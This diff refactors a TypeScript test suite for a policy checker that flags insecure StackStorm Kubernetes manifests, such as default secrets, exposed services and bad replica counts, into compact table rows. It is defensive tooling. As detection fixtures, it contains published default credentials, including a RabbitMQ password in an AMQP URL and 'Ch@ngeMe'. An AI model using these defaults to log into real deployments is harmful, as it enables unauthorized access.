@@ -124,6 +124,10 @@ const baseTlsCert = (): string => repoSecretData('components/default-secrets/st2
 const deny = (rule: string, extra: Omit<Expected, 'rule' | 'severity'> = {}): Expected => ({ rule, severity: 'deny', ...extra });
 const warn = (rule: string, extra: Omit<Expected, 'rule' | 'severity'> = {}): Expected => ({ rule, severity: 'warn', ...extra });
 
+/** A case of one rule as a table row: the environment, the test's name, the resources, the verdict, and the rarer fields. */
+type Row = readonly [environment: string | undefined, name: string, resources: () => Manifest[], expected: Expected | 'allowed', more?: Pick<RuleCase, 'edits' | 'unparsableValues' | 'others'>];
+const rows = (rule: string, table: readonly Row[]): RuleCase[] => table.map(([environment, name, resources, expected, more]) => ({ name, rule, environment, resources, expected, ...more }));
+
 function literalCases(): RuleCase[] {
   const cases: RuleCase[] = [];
   for (const { id, value } of CHART_LITERALS) {
@@ -167,41 +171,13 @@ function literalCases(): RuleCase[] {
 const cases: RuleCase[] = [
   // --- ST2-SEC-001: chart default literals ---------------------------------------------
   ...literalCases(),
-  {
-    name: 'the RabbitMQ default percent-encoded in a ConfigMap URL is denied',
-    rule: 'ST2-SEC-001',
-    environment: 'production',
-    resources: () => [configMap('st2-config', { 'st2.docker.conf': '[messaging]\nurl = amqp://admin:9jS%2Bw1u07NbHtZke1m%2BjW4Cj@rabbitmq:5672\n' })],
-    expected: deny('ST2-SEC-001', { message: 'literal=rabbitmq-password' }),
-  },
-  {
-    name: 'a default literal in dev is only a warning',
-    rule: 'ST2-SEC-001',
-    environment: 'dev',
-    resources: () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })],
-    expected: warn('ST2-SEC-001'),
-  },
-  {
-    name: 'a default literal in staging is denied',
-    rule: 'ST2-SEC-001',
-    environment: 'staging',
-    resources: () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })],
-    expected: deny('ST2-SEC-001'),
-  },
-  {
-    name: 'a default literal in an overlay that declares no environment is denied (judged as production)',
-    rule: 'ST2-SEC-001',
-    environment: undefined,
-    resources: () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })],
-    expected: deny('ST2-SEC-001'),
-  },
-  {
-    name: 'a default literal in an unknown environment is denied (judged as production)',
-    rule: 'ST2-SEC-001',
-    environment: 'qa-eu',
-    resources: () => [workload('myapp', { container: { env: [{ name: 'ST2_PASSWORD', value: 'Ch@ngeMe' }] } })],
-    expected: deny('ST2-SEC-001'),
-  },
+  ...rows('ST2-SEC-001', [
+    ['production', 'the RabbitMQ default percent-encoded in a ConfigMap URL is denied', () => [configMap('st2-config', { 'st2.docker.conf': '[messaging]\nurl = amqp://admin:9jS%2Bw1u07NbHtZke1m%2BjW4Cj@rabbitmq:5672\n' })], deny('ST2-SEC-001', { message: 'literal=rabbitmq-password' })],
+    ['dev', 'a default literal in dev is only a warning', () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })], warn('ST2-SEC-001')],
+    ['staging', 'a default literal in staging is denied', () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })], deny('ST2-SEC-001')],
+    [undefined, 'a default literal in an overlay that declares no environment is denied (judged as production)', () => [secret('st2-auth', { stringData: { password: 'Ch@ngeMe' } })], deny('ST2-SEC-001')],
+    ['qa-eu', 'a default literal in an unknown environment is denied (judged as production)', () => [workload('myapp', { container: { env: [{ name: 'ST2_PASSWORD', value: 'Ch@ngeMe' }] } })], deny('ST2-SEC-001')],
+  ]),
   {
     name: 'generated passwords in Secret, ConfigMap and env are allowed',
     rule: 'ST2-SEC-001',
@@ -222,170 +198,52 @@ const cases: RuleCase[] = [
   },
 
   // --- ST2-SEC-002: license ------------------------------------------------------------
-  {
-    name: 'the chart CI placeholder license is denied',
-    rule: 'ST2-SEC-002',
-    environment: 'production',
-    resources: () => [secret('st2-license', { stringData: { st2_license: '123asd456fake' } })],
-    expected: deny('ST2-SEC-002', { field: 'stringData.st2_license', message: 'reason=placeholder' }),
-  },
-  {
-    name: 'an empty license in stringData is denied',
-    rule: 'ST2-SEC-002',
-    environment: 'staging',
-    resources: () => [secret('st2-license', { stringData: { st2_license: '' } })],
-    expected: deny('ST2-SEC-002', { message: 'reason=empty' }),
-  },
-  {
-    name: 'a license Secret with no value at all is denied',
-    rule: 'ST2-SEC-002',
-    environment: 'production',
-    resources: () => [secret('st2-license', { data: {} })],
-    expected: deny('ST2-SEC-002', { field: 'data', message: 'reason=missing' }),
-  },
-  {
-    name: 'a placeholder license in dev is a warning',
-    rule: 'ST2-SEC-002',
-    environment: 'dev',
-    resources: () => [secret('st2-license', { stringData: { st2_license: 'st2-license-placeholder' } })],
-    expected: warn('ST2-SEC-002'),
-  },
-  {
-    name: 'a real-looking license is allowed',
-    rule: 'ST2-SEC-002',
-    environment: 'production',
-    resources: () => [secret('st2-license', { stringData: { st2_license: 'b3f1c9e2-77aa-4c1d-9a3e-0d5f2e8b6c41' } })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-SEC-002', [
+    ['production', 'the chart CI placeholder license is denied', () => [secret('st2-license', { stringData: { st2_license: '123asd456fake' } })], deny('ST2-SEC-002', { field: 'stringData.st2_license', message: 'reason=placeholder' })],
+    ['staging', 'an empty license in stringData is denied', () => [secret('st2-license', { stringData: { st2_license: '' } })], deny('ST2-SEC-002', { message: 'reason=empty' })],
+    ['production', 'a license Secret with no value at all is denied', () => [secret('st2-license', { data: {} })], deny('ST2-SEC-002', { field: 'data', message: 'reason=missing' })],
+    ['dev', 'a placeholder license in dev is a warning', () => [secret('st2-license', { stringData: { st2_license: 'st2-license-placeholder' } })], warn('ST2-SEC-002')],
+    ['production', 'a real-looking license is allowed', () => [secret('st2-license', { stringData: { st2_license: 'b3f1c9e2-77aa-4c1d-9a3e-0d5f2e8b6c41' } })], 'allowed'],
+  ]),
 
   // --- ST2-SEC-003..006: keys and certificates by fingerprint ----------------------------
-  {
-    name: 'the base SSH key of components/default-secrets is denied by fingerprint',
-    rule: 'ST2-SEC-003',
-    environment: 'production',
-    resources: () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })],
-    expected: deny('ST2-SEC-003', { field: 'data.private_key', message: 'default=base-st2-ssh-key' }),
-  },
-  {
-    name: 'the base SSH key in dev is a warning',
-    rule: 'ST2-SEC-003',
-    environment: 'dev',
-    resources: () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })],
-    expected: warn('ST2-SEC-003'),
-  },
-  {
+  ...rows('ST2-SEC-003', [
+    ['production', 'the base SSH key of components/default-secrets is denied by fingerprint', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], deny('ST2-SEC-003', { field: 'data.private_key', message: 'default=base-st2-ssh-key' })],
+    ['dev', 'the base SSH key in dev is a warning', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], warn('ST2-SEC-003')],
     // In production any committed private key is ST2-SEC-021 (below); dev judges only published keys.
-    name: 'a freshly generated SSH key is allowed in dev',
-    rule: 'ST2-SEC-003',
-    environment: 'dev',
-    resources: () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })],
-    expected: 'allowed',
-  },
-  {
-    name: 'a freshly generated SSH key committed in production is denied',
-    rule: 'ST2-SEC-021',
-    environment: 'production',
-    resources: () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })],
-    expected: deny('ST2-SEC-021', { field: 'stringData.private_key' }),
-  },
-  {
-    name: 'an SSH public key in production is allowed',
-    rule: 'ST2-SEC-021',
-    environment: 'production',
-    resources: () => [secret('st2-ssh', { stringData: { authorized_keys: freshSshPublic } })],
-    expected: 'allowed',
-  },
-  {
-    name: 'a value whose sha256 is a published default is denied when no fingerprint identifies it',
-    rule: 'ST2-SEC-004',
-    environment: 'production',
-    resources: () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })],
-    expected: deny('ST2-SEC-004', { message: 'default=base-st2-ssh-private-key' }),
-    unparsableValues: true,
-  },
-  {
-    name: 'a value already identified by its key fingerprint is not reported again by hash',
-    rule: 'ST2-SEC-004',
-    environment: 'production',
-    resources: () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })],
-    expected: 'allowed',
-    others: ['ST2-SEC-003'],
-  },
-  {
-    name: 'the base st2web TLS key is denied by its public key hash',
-    rule: 'ST2-SEC-005',
-    environment: 'production',
-    resources: () => [secret('st2web', { data: { ssl_certificate_key: baseTlsKey() } })],
-    expected: deny('ST2-SEC-005', { field: 'data.ssl_certificate_key', message: 'default=base-st2web-key' }),
-  },
-  {
+    ['dev', 'a freshly generated SSH key is allowed in dev', () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })], 'allowed'],
+  ]),
+  ...rows('ST2-SEC-021', [
+    ['production', 'a freshly generated SSH key committed in production is denied', () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })], deny('ST2-SEC-021', { field: 'stringData.private_key' })],
+    ['production', 'an SSH public key in production is allowed', () => [secret('st2-ssh', { stringData: { authorized_keys: freshSshPublic } })], 'allowed'],
+  ]),
+  ...rows('ST2-SEC-004', [
+    ['production', 'a value whose sha256 is a published default is denied when no fingerprint identifies it', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], deny('ST2-SEC-004', { message: 'default=base-st2-ssh-private-key' }), { unparsableValues: true }],
+    ['production', 'a value already identified by its key fingerprint is not reported again by hash', () => [secret('st2-ssh', { data: { private_key: baseSshKey() } })], 'allowed', { others: ['ST2-SEC-003'] }],
+  ]),
+  ...rows('ST2-SEC-005', [
+    ['production', 'the base st2web TLS key is denied by its public key hash', () => [secret('st2web', { data: { ssl_certificate_key: baseTlsKey() } })], deny('ST2-SEC-005', { field: 'data.ssl_certificate_key', message: 'default=base-st2web-key' })],
     // In production any committed private key is ST2-SEC-021; dev judges only published keys.
-    name: 'a freshly generated TLS key is allowed in dev',
-    rule: 'ST2-SEC-005',
-    environment: 'dev',
-    resources: () => [secret('st2web', { stringData: { 'tls.key': freshTlsKey } })],
-    expected: 'allowed',
-  },
-  {
-    name: 'the base st2web certificate is denied by fingerprint',
-    rule: 'ST2-SEC-006',
-    environment: 'production',
-    resources: () => [secret('st2web', { data: { ssl_certificate: baseTlsCert() } })],
-    expected: deny('ST2-SEC-006', { field: 'data.ssl_certificate', message: 'default=base-st2web-certificate' }),
-  },
-  {
-    name: 'a CA-signed certificate is not a default certificate',
-    rule: 'ST2-SEC-006',
-    environment: 'production',
-    resources: () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.caSigned } })],
-    expected: 'allowed',
-  },
+    ['dev', 'a freshly generated TLS key is allowed in dev', () => [secret('st2web', { stringData: { 'tls.key': freshTlsKey } })], 'allowed'],
+  ]),
+  ...rows('ST2-SEC-006', [
+    ['production', 'the base st2web certificate is denied by fingerprint', () => [secret('st2web', { data: { ssl_certificate: baseTlsCert() } })], deny('ST2-SEC-006', { field: 'data.ssl_certificate', message: 'default=base-st2web-certificate' })],
+    ['production', 'a CA-signed certificate is not a default certificate', () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.caSigned } })], 'allowed'],
+  ]),
 
   // --- ST2-SEC-007: self-signed or expired certificates ------------------------------------
-  {
-    name: 'a self-signed certificate made at test time is denied in production',
-    rule: 'ST2-SEC-007',
-    environment: 'production',
-    resources: () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.selfSigned } })],
-    expected: deny('ST2-SEC-007', { field: 'stringData.tls.crt', message: 'problem=self-signed' }),
-  },
-  {
-    name: 'a self-signed certificate is only a warning in staging',
-    rule: 'ST2-SEC-007',
-    environment: 'staging',
-    resources: () => [secret('st2web-tls', { data: { 'tls.crt': b64(certs.selfSigned) } })],
-    expected: warn('ST2-SEC-007'),
-  },
-  {
-    name: 'an expired CA-signed certificate is denied in production',
-    rule: 'ST2-SEC-007',
-    environment: 'production',
-    resources: () => [secret('st2web-tls', { data: { 'tls.crt': b64(certs.expired) } })],
-    expected: deny('ST2-SEC-007', { message: 'problem=expired' }),
-  },
-  {
-    name: 'a valid CA-signed certificate is allowed',
-    rule: 'ST2-SEC-007',
-    environment: 'production',
-    resources: () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.caSigned, 'ca.crt': certs.ca } })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-SEC-007', [
+    ['production', 'a self-signed certificate made at test time is denied in production', () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.selfSigned } })], deny('ST2-SEC-007', { field: 'stringData.tls.crt', message: 'problem=self-signed' })],
+    ['staging', 'a self-signed certificate is only a warning in staging', () => [secret('st2web-tls', { data: { 'tls.crt': b64(certs.selfSigned) } })], warn('ST2-SEC-007')],
+    ['production', 'an expired CA-signed certificate is denied in production', () => [secret('st2web-tls', { data: { 'tls.crt': b64(certs.expired) } })], deny('ST2-SEC-007', { message: 'problem=expired' })],
+    ['production', 'a valid CA-signed certificate is allowed', () => [secret('st2web-tls', { stringData: { 'tls.crt': certs.caSigned, 'ca.crt': certs.ca } })], 'allowed'],
+  ]),
 
   // --- Exposure ------------------------------------------------------------------------------
-  {
-    name: 'a Service with externalIPs is denied',
-    rule: 'ST2-EXP-005',
-    environment: 'staging',
-    resources: () => [...haWorkload('st2api'), { ...service('st2api', 'st2api'), spec: { selector: { app: 'st2api' }, ports: [{ port: 80 }], externalIPs: ['203.0.113.9'] } }],
-    expected: deny('ST2-EXP-005', { field: 'spec.externalIPs', message: 'service=st2api' }),
-  },
-  {
-    name: 'a Service without externalIPs is allowed',
-    rule: 'ST2-EXP-005',
-    environment: 'production',
-    resources: () => [...haWorkload('st2api'), { ...service('st2api', 'st2api'), spec: { selector: { app: 'st2api' }, ports: [{ port: 9101 }], externalIPs: [] } }],
-    expected: 'allowed',
-  },
+  ...rows('ST2-EXP-005', [
+    ['staging', 'a Service with externalIPs is denied', () => [...haWorkload('st2api'), { ...service('st2api', 'st2api'), spec: { selector: { app: 'st2api' }, ports: [{ port: 80 }], externalIPs: ['203.0.113.9'] } }], deny('ST2-EXP-005', { field: 'spec.externalIPs', message: 'service=st2api' })],
+    ['production', 'a Service without externalIPs is allowed', () => [...haWorkload('st2api'), { ...service('st2api', 'st2api'), spec: { selector: { app: 'st2api' }, ports: [{ port: 9101 }], externalIPs: [] } }], 'allowed'],
+  ]),
   {
     name: 'a LoadBalancer in front of MongoDB is denied, even restricted',
     rule: 'ST2-EXP-006',
@@ -427,20 +285,10 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'st2web behind only a NodePort Service is denied in production',
-    rule: 'ST2-EXP-001',
-    environment: 'production',
-    resources: () => [...haWorkload('st2web'), service('st2web', 'st2web', 'NodePort')],
-    expected: deny('ST2-EXP-001', { field: 'spec.type', message: 'service=st2web' }),
-  },
-  {
-    name: 'st2web behind only a NodePort Service is a warning in dev',
-    rule: 'ST2-EXP-001',
-    environment: 'dev',
-    resources: () => [...haWorkload('st2web'), service('st2web', 'st2web', 'NodePort')],
-    expected: warn('ST2-EXP-001'),
-  },
+  ...rows('ST2-EXP-001', [
+    ['production', 'st2web behind only a NodePort Service is denied in production', () => [...haWorkload('st2web'), service('st2web', 'st2web', 'NodePort')], deny('ST2-EXP-001', { field: 'spec.type', message: 'service=st2web' })],
+    ['dev', 'st2web behind only a NodePort Service is a warning in dev', () => [...haWorkload('st2web'), service('st2web', 'st2web', 'NodePort')], warn('ST2-EXP-001')],
+  ]),
   {
     name: 'st2web behind a ClusterIP Service and an Ingress is allowed',
     rule: 'ST2-EXP-001',
@@ -460,92 +308,30 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'a NodePort etcd Service is denied in production',
-    rule: 'ST2-EXP-002',
-    environment: 'production',
-    resources: () => [service('etcd', 'etcd', 'NodePort')],
-    expected: deny('ST2-EXP-002', { field: 'spec.type', message: 'service=etcd' }),
-  },
-  {
-    name: 'a ClusterIP etcd Service is allowed',
-    rule: 'ST2-EXP-002',
-    environment: 'production',
-    resources: () => [service('etcd', 'etcd', 'ClusterIP')],
-    expected: 'allowed',
-  },
-  {
-    name: 'a container hostPort is denied in staging',
-    rule: 'ST2-EXP-003',
-    environment: 'staging',
-    resources: () => [workload('registry-proxy', { container: { ports: [{ containerPort: 5000, hostPort: 5000 }] } })],
-    expected: deny('ST2-EXP-003', { field: 'spec.template.spec.containers.0.ports.0.hostPort', message: 'host_port=5000' }),
-  },
-  {
-    name: 'a containerPort without hostPort is allowed',
-    rule: 'ST2-EXP-003',
-    environment: 'production',
-    resources: () => [workload('registry-proxy', { container: { ports: [{ containerPort: 5000 }] } })],
-    expected: 'allowed',
-  },
-  {
-    name: 'a pod on the host network is denied in production',
-    rule: 'ST2-EXP-004',
-    environment: 'production',
-    resources: () => [workload('myapp', { pod: { hostNetwork: true } })],
-    expected: deny('ST2-EXP-004', { field: 'spec.template.spec.hostNetwork' }),
-  },
-  {
-    name: 'a pod with hostNetwork false is allowed',
-    rule: 'ST2-EXP-004',
-    environment: 'production',
-    resources: () => [workload('myapp', { pod: { hostNetwork: false } })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-EXP-002', [
+    ['production', 'a NodePort etcd Service is denied in production', () => [service('etcd', 'etcd', 'NodePort')], deny('ST2-EXP-002', { field: 'spec.type', message: 'service=etcd' })],
+    ['production', 'a ClusterIP etcd Service is allowed', () => [service('etcd', 'etcd', 'ClusterIP')], 'allowed'],
+  ]),
+  ...rows('ST2-EXP-003', [
+    ['staging', 'a container hostPort is denied in staging', () => [workload('registry-proxy', { container: { ports: [{ containerPort: 5000, hostPort: 5000 }] } })], deny('ST2-EXP-003', { field: 'spec.template.spec.containers.0.ports.0.hostPort', message: 'host_port=5000' })],
+    ['production', 'a containerPort without hostPort is allowed', () => [workload('registry-proxy', { container: { ports: [{ containerPort: 5000 }] } })], 'allowed'],
+  ]),
+  ...rows('ST2-EXP-004', [
+    ['production', 'a pod on the host network is denied in production', () => [workload('myapp', { pod: { hostNetwork: true } })], deny('ST2-EXP-004', { field: 'spec.template.spec.hostNetwork' })],
+    ['production', 'a pod with hostNetwork false is allowed', () => [workload('myapp', { pod: { hostNetwork: false } })], 'allowed'],
+  ]),
 
   // --- Replicas ----------------------------------------------------------------------------
-  {
-    name: 'two st2timersengine replicas are denied even in dev',
-    rule: 'ST2-REP-001',
-    environment: 'dev',
-    resources: () => [workload('st2timersengine', { replicas: 2 })],
-    expected: deny('ST2-REP-001', { field: 'spec.replicas', message: 'replicas=2' }),
-  },
-  {
-    name: 'two one-replica st2timersengine Deployments in one namespace are denied',
-    rule: 'ST2-REP-001',
-    environment: 'production',
-    resources: () => [workload('st2timersengine'), workload('st2timersengine', { name: 'st2timersengine-b' })],
-    expected: deny('ST2-REP-001', { message: 'total=2' }),
-  },
-  {
-    name: 'st2timersengine as a DaemonSet is denied',
-    rule: 'ST2-REP-001',
-    environment: 'production',
-    resources: () => [workload('st2timersengine', { kind: 'DaemonSet' })],
-    expected: deny('ST2-REP-001', { field: 'kind' }),
-  },
-  {
-    name: 'one st2timersengine replica is allowed',
-    rule: 'ST2-REP-001',
-    environment: 'production',
-    resources: () => [workload('st2timersengine', { replicas: 1 })],
-    expected: 'allowed',
-  },
-  {
-    name: 'an st2sensorcontainer Deployment with two replicas is denied',
-    rule: 'ST2-REP-002',
-    environment: 'production',
-    resources: () => [workload('st2sensorcontainer', { replicas: 2 })],
-    expected: deny('ST2-REP-002', { field: 'spec.replicas' }),
-  },
-  {
-    name: 'an st2sensorcontainer Deployment with one replica is allowed',
-    rule: 'ST2-REP-002',
-    environment: 'production',
-    resources: () => [workload('st2sensorcontainer', { replicas: 1 })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-REP-001', [
+    ['dev', 'two st2timersengine replicas are denied even in dev', () => [workload('st2timersengine', { replicas: 2 })], deny('ST2-REP-001', { field: 'spec.replicas', message: 'replicas=2' })],
+    ['production', 'two one-replica st2timersengine Deployments in one namespace are denied', () => [workload('st2timersengine'), workload('st2timersengine', { name: 'st2timersengine-b' })], deny('ST2-REP-001', { message: 'total=2' })],
+    ['production', 'st2timersengine as a DaemonSet is denied', () => [workload('st2timersengine', { kind: 'DaemonSet' })], deny('ST2-REP-001', { field: 'kind' })],
+    ['production', 'one st2timersengine replica is allowed', () => [workload('st2timersengine', { replicas: 1 })], 'allowed'],
+  ]),
+  ...rows('ST2-REP-002', [
+    ['production', 'an st2sensorcontainer Deployment with two replicas is denied', () => [workload('st2sensorcontainer', { replicas: 2 })], deny('ST2-REP-002', { field: 'spec.replicas' })],
+    ['production', 'an st2sensorcontainer Deployment with one replica is allowed', () => [workload('st2sensorcontainer', { replicas: 1 })], 'allowed'],
+  ]),
   {
     name: 'two st2sensorcontainer Deployments without partitioning are denied',
     rule: 'ST2-REP-003',
@@ -563,55 +349,17 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'two st2garbagecollector replicas are a warning in production (st2 ha.rst: no benefit, no harm)',
-    rule: 'ST2-REP-004',
-    environment: 'production',
-    resources: () => [workload('st2garbagecollector', { replicas: 2 })],
-    expected: warn('ST2-REP-004', { field: 'spec.replicas', message: 'component=st2garbagecollector' }),
-  },
-  {
-    name: 'two st2client replicas are a warning in dev',
-    rule: 'ST2-REP-004',
-    environment: 'dev',
-    resources: () => [workload('st2client', { replicas: 2 })],
-    expected: warn('ST2-REP-004'),
-  },
-  {
-    name: 'one st2garbagecollector replica is allowed',
-    rule: 'ST2-REP-004',
-    environment: 'production',
-    resources: () => [workload('st2garbagecollector', { replicas: 1 })],
-    expected: 'allowed',
-  },
-  {
-    name: 'one st2api replica is denied in production',
-    rule: 'ST2-REP-005',
-    environment: 'production',
-    resources: () => [workload('st2api', { replicas: 1 })],
-    expected: deny('ST2-REP-005', { field: 'spec.replicas', message: 'component=st2api' }),
-  },
-  {
-    name: 'one st2api replica is a warning in staging',
-    rule: 'ST2-REP-005',
-    environment: 'staging',
-    resources: () => [workload('st2api', { replicas: 1 })],
-    expected: warn('ST2-REP-005'),
-  },
-  {
-    name: 'one st2api replica is not checked in dev',
-    rule: 'ST2-REP-005',
-    environment: 'dev',
-    resources: () => [workload('st2api', { replicas: 1 })],
-    expected: 'allowed',
-  },
-  {
-    name: 'two st2api replicas with a PDB are allowed in production',
-    rule: 'ST2-REP-005',
-    environment: 'production',
-    resources: () => haWorkload('st2api', 2),
-    expected: 'allowed',
-  },
+  ...rows('ST2-REP-004', [
+    ['production', 'two st2garbagecollector replicas are a warning in production (st2 ha.rst: no benefit, no harm)', () => [workload('st2garbagecollector', { replicas: 2 })], warn('ST2-REP-004', { field: 'spec.replicas', message: 'component=st2garbagecollector' })],
+    ['dev', 'two st2client replicas are a warning in dev', () => [workload('st2client', { replicas: 2 })], warn('ST2-REP-004')],
+    ['production', 'one st2garbagecollector replica is allowed', () => [workload('st2garbagecollector', { replicas: 1 })], 'allowed'],
+  ]),
+  ...rows('ST2-REP-005', [
+    ['production', 'one st2api replica is denied in production', () => [workload('st2api', { replicas: 1 })], deny('ST2-REP-005', { field: 'spec.replicas', message: 'component=st2api' })],
+    ['staging', 'one st2api replica is a warning in staging', () => [workload('st2api', { replicas: 1 })], warn('ST2-REP-005')],
+    ['dev', 'one st2api replica is not checked in dev', () => [workload('st2api', { replicas: 1 })], 'allowed'],
+    ['production', 'two st2api replicas with a PDB are allowed in production', () => haWorkload('st2api', 2), 'allowed'],
+  ]),
   {
     name: 'two st2actionrunner replicas without a coordination backend are denied',
     rule: 'ST2-REP-006',
@@ -631,20 +379,10 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'st2actionrunner without st2scheduler is denied, even in dev (executions stay requested)',
-    rule: 'ST2-REP-011',
-    environment: 'dev',
-    resources: () => [workload('st2actionrunner', { replicas: 1 })],
-    expected: deny('ST2-REP-011', { field: 'metadata.name', message: 'component=st2actionrunner' }),
-  },
-  {
-    name: 'st2actionrunner with st2scheduler is allowed in dev',
-    rule: 'ST2-REP-011',
-    environment: 'dev',
-    resources: () => [workload('st2actionrunner', { replicas: 1 }), workload('st2scheduler', { replicas: 1 })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-REP-011', [
+    ['dev', 'st2actionrunner without st2scheduler is denied, even in dev (executions stay requested)', () => [workload('st2actionrunner', { replicas: 1 })], deny('ST2-REP-011', { field: 'metadata.name', message: 'component=st2actionrunner' })],
+    ['dev', 'st2actionrunner with st2scheduler is allowed in dev', () => [workload('st2actionrunner', { replicas: 1 }), workload('st2scheduler', { replicas: 1 })], 'allowed'],
+  ]),
   {
     name: 'one st2scheduler replica is denied in production',
     rule: 'ST2-REP-005',
@@ -726,92 +464,30 @@ const cases: RuleCase[] = [
     },
     expected: deny('ST2-REP-001', { field: 'spec.strategy', message: 'use strategy Recreate' }),
   },
-  {
-    name: 'a MongoDB StatefulSet with 2 members is denied in production',
-    rule: 'ST2-REP-007',
-    environment: 'production',
-    resources: () => haWorkload('mongodb', 2, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29' } }),
-    expected: deny('ST2-REP-007', { field: 'spec.replicas', message: 'role=mongodb' }),
-  },
-  {
-    name: 'a 2-node RabbitMQ is a warning in staging',
-    rule: 'ST2-REP-007',
-    environment: 'staging',
-    resources: () => haWorkload('rabbitmq', 2, { kind: 'StatefulSet', container: { image: 'rabbitmq:3.12.14' } }),
-    expected: warn('ST2-REP-007', { message: 'role=rabbitmq' }),
-  },
-  {
-    name: 'a 3-member MongoDB StatefulSet is allowed in production',
-    rule: 'ST2-REP-007',
-    environment: 'production',
-    resources: () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'] } }),
-    expected: 'allowed',
-  },
-  {
-    name: 'etcd as a Deployment with 3 replicas is denied',
-    rule: 'ST2-REP-008',
-    environment: 'production',
-    resources: () => haWorkload('etcd', 3, { container: { image: 'bitnami/etcd:3.5.17' } }),
-    expected: deny('ST2-REP-008', { field: 'spec.replicas', message: 'role=etcd' }),
-  },
-  {
-    name: 'etcd as a 3-member StatefulSet is allowed',
-    rule: 'ST2-REP-008',
-    environment: 'production',
-    resources: () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnami/etcd:3.5.17' } }),
-    expected: 'allowed',
-  },
-  {
-    name: 'an HPA on st2timersengine is denied',
-    rule: 'ST2-REP-009',
-    environment: 'dev',
-    resources: () => [workload('st2timersengine'), hpa('st2timersengine')],
-    expected: deny('ST2-REP-009', { field: 'spec.scaleTargetRef.name', message: 'component=st2timersengine' }),
-  },
-  {
-    name: 'an HPA on st2api is allowed',
-    rule: 'ST2-REP-009',
-    environment: 'production',
-    resources: () => [...haWorkload('st2api', 2), hpa('st2api')],
-    expected: 'allowed',
-  },
-  {
-    name: 'a Deployment scaled to zero is denied in production',
-    rule: 'ST2-REP-010',
-    environment: 'production',
-    resources: () => [workload('myapp', { replicas: 0 })],
-    expected: deny('ST2-REP-010', { field: 'spec.replicas', message: 'name=myapp' }),
-  },
-  {
-    name: 'a Deployment scaled to zero is not checked in dev',
-    rule: 'ST2-REP-010',
-    environment: 'dev',
-    resources: () => [workload('myapp', { replicas: 0 })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-REP-007', [
+    ['production', 'a MongoDB StatefulSet with 2 members is denied in production', () => haWorkload('mongodb', 2, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29' } }), deny('ST2-REP-007', { field: 'spec.replicas', message: 'role=mongodb' })],
+    ['staging', 'a 2-node RabbitMQ is a warning in staging', () => haWorkload('rabbitmq', 2, { kind: 'StatefulSet', container: { image: 'rabbitmq:3.12.14' } }), warn('ST2-REP-007', { message: 'role=rabbitmq' })],
+    ['production', 'a 3-member MongoDB StatefulSet is allowed in production', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'] } }), 'allowed'],
+  ]),
+  ...rows('ST2-REP-008', [
+    ['production', 'etcd as a Deployment with 3 replicas is denied', () => haWorkload('etcd', 3, { container: { image: 'bitnami/etcd:3.5.17' } }), deny('ST2-REP-008', { field: 'spec.replicas', message: 'role=etcd' })],
+    ['production', 'etcd as a 3-member StatefulSet is allowed', () => haWorkload('etcd', 3, { kind: 'StatefulSet', container: { image: 'bitnami/etcd:3.5.17' } }), 'allowed'],
+  ]),
+  ...rows('ST2-REP-009', [
+    ['dev', 'an HPA on st2timersengine is denied', () => [workload('st2timersengine'), hpa('st2timersengine')], deny('ST2-REP-009', { field: 'spec.scaleTargetRef.name', message: 'component=st2timersengine' })],
+    ['production', 'an HPA on st2api is allowed', () => [...haWorkload('st2api', 2), hpa('st2api')], 'allowed'],
+  ]),
+  ...rows('ST2-REP-010', [
+    ['production', 'a Deployment scaled to zero is denied in production', () => [workload('myapp', { replicas: 0 })], deny('ST2-REP-010', { field: 'spec.replicas', message: 'name=myapp' })],
+    ['dev', 'a Deployment scaled to zero is not checked in dev', () => [workload('myapp', { replicas: 0 })], 'allowed'],
+  ]),
 
   // --- Hardening ---------------------------------------------------------------------------
-  {
-    name: 'an image tagged latest is denied in production',
-    rule: 'ST2-HRD-001',
-    environment: 'production',
-    resources: () => [workload('myapp', { container: { image: 'stackstorm/st2packs:latest' } })],
-    expected: deny('ST2-HRD-001', { field: 'spec.template.spec.containers.0.image', message: 'problem=latest' }),
-  },
-  {
-    name: 'an image without a tag is denied in staging',
-    rule: 'ST2-HRD-001',
-    environment: 'staging',
-    resources: () => [workload('myapp', { container: { image: 'registry.example.test:5000/st2/myapp' } })],
-    expected: deny('ST2-HRD-001', { message: 'problem=no-tag' }),
-  },
-  {
-    name: 'an image tagged latest is a warning in dev',
-    rule: 'ST2-HRD-001',
-    environment: 'dev',
